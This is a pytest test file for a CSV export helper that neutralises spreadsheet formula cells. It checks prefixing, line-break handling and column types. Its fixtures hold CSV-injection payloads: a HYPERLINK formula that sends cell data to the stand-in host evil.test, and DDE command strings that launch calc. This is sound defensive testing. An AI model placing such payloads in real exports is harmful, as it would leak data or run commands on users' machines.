"""CSV exports neutralise formula cells: the one helper every download uses (core/export.py, including the Market
page's table), read back the way a spreadsheet reads them."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass

import pandas as pd
import pytest

from core.export import neutralise, safe_csv

# (cell as stored, cell as exported)
CELLS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.test/?d="&A1,"Apply")', '\'=HYPERLINK("http://evil.test/?d="&A1,"Apply")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("Python", "Python"),
    ("C++", "C++"),
    ("a=b", "a=b"),
    ("", ""),
]


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens it as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell, exported", [*CELLS, ("\r=1+1", "'\r=1+1")], ids=repr)
def test_neutralise_single_values(cell, exported):
    assert neutralise(cell) == exported


def test_dataframe_export_neutralises_text_and_keeps_numbers():
    frame = pd.DataFrame({
        "Skill": [c for c, _ in CELLS],
        "Trend (pt)": [-1.5] * len(CELLS),
        "=Header": ["x"] * len(CELLS),
    })
    rows = read_back(safe_csv(frame))
    assert rows[0] == ["Skill", "Trend (pt)", "'=Header"]
    assert [r[0] for r in rows[1:]] == [e for _, e in CELLS]
    assert {r[1] for r in rows[1:]} == {"-1.5"}  # a negative number stays a number


BREAKS = ["SQL\r\n@SUM(1)", "Go\n+1", "\r=1+1", "Python\r=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("cell", BREAKS, ids=repr)
def test_line_breaks_inside_a_cell_cannot_start_a_new_row(cell):
    data = safe_csv(pd.DataFrame({"Skill": [cell], "Postings": [3]}))
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2 and rows[1][1] == "3"  # the break stays inside one quoted cell
    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows for c in row)


def test_string_and_categorical_columns_are_neutralised_too():
    frame = pd.DataFrame({
        "cat": pd.Categorical(["=1+1", "Python"]),
        "str": pd.array(["@x", None], dtype="string"),
        "mixed": ["-x", 3],
    })
    rows = read_back(safe_csv(frame))
    assert rows[1] == ["'=1+1", "'@x", "'-x"]
    assert rows[2][0] == "Python" and rows[2][2] == "3"


@dataclass
class GapRow:
    skill: str
    hours: float


ROW_INPUTS = [
    ("dicts", [{"skill": "=cmd", "hours": 12.0}, {"skill": "SQL", "hours": -3}], None),
    ("dataclasses", [GapRow("=cmd", 12.0), GapRow("SQL", -3)], None),
    ("sequences", [["=cmd", 12.0], ["SQL", -3]], ["skill", "hours"]),
]


@pytest.mark.parametrize("case, rows, columns", ROW_INPUTS, ids=[r[0] for r in ROW_INPUTS])
def test_rows_export_for_non_pandas_callers(case, rows, columns):
    out = read_back(safe_csv(rows, columns=columns))
    assert out == [["skill", "hours"], ["'=cmd", "12.0"], ["SQL", "-3"]]


def test_missing_values_are_empty_cells():
    frame = pd.DataFrame({"a": [1.0, float("nan")], "b": ["x", None], "c": pd.array([1, None], dtype="Int64")})
    assert read_back(safe_csv(frame)) == [["a", "b", "c"], ["1.0", "x", "1"], ["", "", ""]]
